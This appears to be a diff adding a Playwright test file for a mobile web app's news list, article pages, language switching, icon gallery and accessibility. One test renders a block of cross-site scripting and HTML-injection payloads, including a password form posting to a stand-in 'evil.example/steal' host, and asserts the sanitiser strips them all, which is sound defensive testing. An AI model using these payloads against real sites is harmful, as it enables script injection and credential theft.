@@ -1,0 +1,200 @@
+import type { Page } from '@playwright/test'
+import { THEMES, violations } from './axe.ts'
+import { drag } from './fingers.ts'
+import { expect, test } from './fixtures.ts'
+import { packet, tapPushes } from './pushes.ts'
+import { login, openChinese, toast } from './steps.ts'
+
+const rows = (page: Page) => page.getByRole('main').getByRole('listitem')
+const article = (page: Page) => page.getByRole('article')
+const heading = (page: Page) => page.getByRole('heading', { level: 1 })
+const failure = (page: Page) => page.getByRole('alert').filter({ hasText: 'no connection' })
+
+/** Has the platform answer with an article of this HTML. */
+const answerWith = (page: Page, content: string) =>
+  page.route('**/api/news/detail*', route =>
+    route.fulfill({ json: { type: 'ok', message: { id: 9, title: 'T', content, create_time: null } } }),
+  )
+
+test('the news of category 4 have title and time, and open their article', async ({ signedIn: page }) => {
+  const answer = page.waitForResponse('**/api/news/list*')
+  await page.goto('article/list')
+  const { message } = (await (await answer).json()) as {
+    message: { list: { title: string; create_time: string }[] }
+  }
+  expect((await answer).request().postDataJSON()).toMatchObject({ c_id: 4 })
+  await expect(heading(page)).toHaveText('News')
+  await expect(rows(page)).toHaveText(message.list.map(({ title, create_time }) => `${title}${create_time}`))
+  const title = 'How to recognise false customer service'
+  await rows(page).filter({ hasText: title }).getByRole('link').click()
+  await expect(page).toHaveURL(/\/article\/info\?id=305&title=How\+to/)
+  await expect(heading(page)).toHaveText(title)
+  await expect(article(page)).toContainText('Our staff never ask for your password')
+  await page.getByRole('button', { name: 'Back' }).click()
+  await expect(rows(page)).toHaveCount(6)
+  await page.goto('article/list?cid=5')
+  await expect(page.getByRole('button', { name: 'Load More Data' })).toBeVisible()
+})
+
+test('news and article wait, fail, come again, and are pulled anew', async ({ signedIn: page }) => {
+  await page.route('**/api/news/*', route => route.abort())
+  await page.goto('article/list?cid=4')
+  await expect(failure(page)).toBeVisible()
+  await page.unrouteAll()
+  await page.getByRole('button', { name: 'Retry' }).click()
+  await expect(rows(page)).toHaveCount(6)
+
+  let answers = () => {}
+  const late = new Promise<void>(resolve => (answers = resolve))
+  await page.route('**/api/news/*', async route => {
+    await late
+    await route.abort()
+  })
+  await rows(page).last().getByRole('link').click()
+  await expect(page.getByRole('main').locator('[aria-busy=true]')).toBeVisible()
+  answers()
+  await expect(failure(page)).toBeVisible()
+  await page.unrouteAll()
+  await page.getByRole('button', { name: 'Retry' }).click()
+  await expect(article(page)).toContainText('Verified users')
+  await answerWith(page, '<p>Written anew</p>')
+  await drag(page, page.getByRole('main'), { dy: 300, at: { x: 0.5, y: 0.1 } })
+  await expect(article(page)).toHaveText('Written anew')
+})
+
+test('an unknown article says so and leads to the news', async ({ signedIn: page }) => {
+  for (const query of ['id=99&title=Gone', 'id=1e3', '']) {
+    await page.goto(`article/info?${query}`)
+    await expect(page.getByText('This article is not here')).toBeVisible()
+    await expect(heading(page)).toHaveText(query.includes('title') ? 'Gone' : 'Article')
+  }
+  await page.getByRole('link', { name: 'All news' }).click()
+  await expect(rows(page)).toHaveCount(6)
+})
+
+test('another language brings news and article in it', async ({ page, user }) => {
+  await openChinese(page)
+  const pushes = await tapPushes(page)
+  await login(page, user)
+  const ticker = page.getByRole('link', { name: /^News/ })
+  await ticker.click()
+  await rows(page).filter({ hasText: 'How to recognise' }).getByRole('link').click()
+  await expect(article(page)).toContainText('Our staff')
+  await pushes.add(packet('update_lang'))
+  const sheet = page.getByRole('dialog', { name: 'Choose Language' })
+  await sheet.getByRole('button', { name: '繁體中文' }).click()
+  await expect(sheet).toBeHidden()
+  await expect(article(page)).toContainText('密碼')
+  await expect(heading(page)).toHaveText('如何識別假冒客服')
+  await page.goBack()
+  await expect(rows(page).filter({ hasText: '如何識別假冒客服' })).toBeVisible()
+  await page.goBack()
+  await expect(page.getByRole('link', { name: /^公告/ })).toContainText(/鎖倉|識別|託管|提幣|期權|認證/)
+})
+
+const HOSTILE = `
+<script>window.ran = 'script'</script>
+<img src="https://pictures.example/broken.png" onerror="window.ran = 'onerror'" alt="A chart" width="900" height="40">
+<svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script><a href="javascript:window.ran = 1"><text>s</text></a></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran='mutated'&gt;"></mglyph></table></mtext></math>
+<iframe srcdoc="<script>parent.ran = 'iframe'</script>"></iframe>
+<object data="javascript:window.ran = 'object'"></object><embed src="javascript:window.ran = 'embed'">
+<form action="https://evil.example/steal"><input name="password" autofocus onfocus="window.ran = 'focus'"><button>Log in</button></form>
+<details open ontoggle="window.ran = 'toggle'"><summary>More</summary></details>
+<style>body { display: none } @import url(https://evil.example/style.css)</style>
+<link rel="stylesheet" href="https://evil.example/style.css"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<div style="position: fixed; inset: 0; background: url(https://evil.example/a.png)" class="_card" id="root" onclick="window.ran = 'click'">Cover</div>
+<a href="javascript:window.ran = 'link'">one</a> <a href="java\tscript:window.ran = 'tab'">two</a>
+<a href="&#106;avascript:window.ran = 'entity'">three</a> <a href="data:text/html,<script>alert(1)</script>">four</a>
+<a href="vbscript:x" target="_self">five</a> <a href="blob:x">six</a>
+<a href="https://good.example/page" target="_top" rel="opener" ping="https://evil.example/ping">web</a> <a href="mailto:help@good.example">mail</a>
+<h1>Big</h1><h2>Small</h2><table><tr><td>${'wide '.repeat(3)}</td>${'<td>cell</td>'.repeat(12)}</tr></table>
+<p>${'Donaudampfschifffahrt'.repeat(8)}</p><p>The end</p>`
+
+test('nothing in the HTML of an article runs, asks, embeds, covers or tells where its reader is', async ({
+  signedIn: page,
+}) => {
+  const asked: string[] = []
+  page.on('request', request => asked.push(request.url()))
+  page.on('dialog', dialog => {
+    asked.push(`dialog ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  const picture = page.waitForRequest('https://pictures.example/**')
+  await page.route('https://pictures.example/**', route => route.abort())
+  await answerWith(page, HOSTILE)
+  await page.goto('article/info?id=9&title=%3Cimg+src%3Dx+onerror%3D%22window.ran%3D1%22%3E')
+  await expect(article(page)).toContainText('The end')
+  await expect(heading(page)).toHaveText('<img src=x onerror="window.ran=1">')
+  expect((await picture).headers()['referer']).toBeUndefined()
+  for (const word of ['one', 'two', 'three', 'four', 'five', 'six', 'Cover'])
+    await article(page).getByText(word, { exact: true }).click()
+
+  const found = await article(page).evaluate(root => {
+    const all = [...root.querySelectorAll('*')]
+    return {
+      tags: [...new Set(all.map(({ localName }) => localName))].toSorted(),
+      attributes: [...new Set(all.flatMap(each => each.getAttributeNames()))].toSorted(),
+      links: [...root.querySelectorAll('a[href]')].map(link => link.outerHTML),
+      pictures: [...root.querySelectorAll('img[src]')].map(({ outerHTML }) => outerHTML),
+    }
+  })
+  expect(found.tags).toEqual(['a', 'div', 'h2', 'h3', 'img', 'p', 'table', 'tbody', 'td', 'tr'].toSorted())
+  expect(
+    found.attributes.filter(name => name.startsWith('on') || /^(style|id|name|ping)$/.test(name)),
+  ).toEqual([])
+  expect(found.links).toHaveLength(2)
+  for (const [at, href] of ['https://good.example/page', 'mailto:help@good.example'].entries()) {
+    expect(found.links[at]).toContain(`href="${href}"`)
+    expect(found.links[at]).toContain('target="_blank"')
+    expect(found.links[at]).toContain('rel="noopener noreferrer"')
+  }
+  expect(found.pictures).toHaveLength(1)
+  expect(found.pictures[0]).toContain('loading="lazy"')
+  expect(found.pictures[0]).toContain('referrerpolicy="no-referrer"')
+  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined()
+  expect(asked.filter(url => /evil|^dialog/.test(url))).toEqual([])
+  expect(page.url()).toContain('/article/info')
+
+  // However wide what it holds, the page is as wide as the phone; the table scrolls by itself.
+  expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
+  const table = article(page).locator('div[tabindex="0"]')
+  expect(await table.evaluate(box => box.scrollWidth > box.clientWidth)).toBe(true)
+  await table.focus()
+  await expect(table).toBeFocused()
+})
+
+test('a tap on an icon of the gallery copies its name', async ({ signedIn: page, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  await page.goto('icon')
+  for (const [region, name] of [
+    ['Coins', 'BTC'],
+    ['App', 'Wallet'],
+  ] as const) {
+    await page.getByRole('region', { name: region }).getByRole('button', { name, exact: true }).click()
+    await expect(toast(page)).toHaveText('Success')
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(name)
+  }
+})
+
+for (const theme of THEMES)
+  test.describe(theme, () => {
+    test.use({ colorScheme: theme, contextOptions: { reducedMotion: 'reduce' } })
+
+    test(`news, article and icons are accessible: ${theme}`, async ({ signedIn: page }) => {
+      await page.goto('article/list')
+      await expect(rows(page)).toHaveCount(6)
+      expect.soft(await violations(page, theme), 'news').toEqual([])
+      await answerWith(page, HOSTILE)
+      await page.goto('article/info?id=9&title=Hostile')
+      await expect(article(page)).toContainText('The end')
+      expect.soft(await violations(page, theme), 'article').toEqual([])
+      await page.goto('article/info?id=1e3')
+      await expect(page.getByText('This article is not here')).toBeVisible()
+      expect.soft(await violations(page, theme), 'unknown article').toEqual([])
+      await page.goto('icon')
+      await expect(page.getByRole('button', { name: 'Wallet', exact: true })).toBeVisible()
+      expect.soft(await violations(page, theme), 'icons').toEqual([])
+    })
+  })
